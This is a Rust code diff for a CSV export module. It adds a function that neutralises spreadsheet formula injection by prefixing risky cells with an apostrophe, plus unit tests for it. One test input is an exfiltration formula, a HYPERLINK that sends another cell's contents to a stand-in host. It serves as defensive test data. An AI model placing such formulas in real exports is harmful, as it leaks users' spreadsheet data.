@@ -17,6 +17,22 @@ pub const HEADER: [&str; 7] = [
     "bank_code",
     "fee",
 ];
+/// One text cell of a CSV export: a cell that a spreadsheet would run as a formula (it begins
+/// with `=`, `+`, `-`, `@`, TAB or CR) is prefixed with `'`; then it is quoted when it needs to be.
+/// Money columns are written as plain integers and never pass through here.
+pub fn text_cell(s: &str) -> String {
+    let neutral = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_owned()
+    };
+    if neutral.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", neutral.replace('"', "\"\""))
+    } else {
+        neutral
+    }
+}
+
 /// Past this many problems the parser stops collecting (the file is refused either way).
 pub const MAX_ERRORS: usize = 200;
 
@@ -283,6 +299,22 @@ mod tests {
         assert_eq!(errors[0].field, "line 1, column header");
         let (_, errors) = parse_all("", 8);
         assert_eq!(errors[0].field, "line 1");
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_and_quoted() {
+        assert_eq!(text_cell("=1+1"), "'=1+1");
+        assert_eq!(text_cell("@SUM(1+1)"), "'@SUM(1+1)");
+        assert_eq!(text_cell("-2+3"), "'-2+3");
+        assert_eq!(text_cell("+123"), "'+123");
+        assert_eq!(text_cell("\tx"), "'\tx");
+        assert_eq!(text_cell("\rx"), "\"'\rx\"");
+        assert_eq!(
+            text_cell("=HYPERLINK(\"http://e/?x=\"&A1,\"c\")"),
+            "\"'=HYPERLINK(\"\"http://e/?x=\"\"&A1,\"\"c\"\")\""
+        );
+        assert_eq!(text_cell("HN-VPDKDD"), "HN-VPDKDD");
+        assert_eq!(text_cell("a,b"), "\"a,b\"");
     }
 
     #[test]
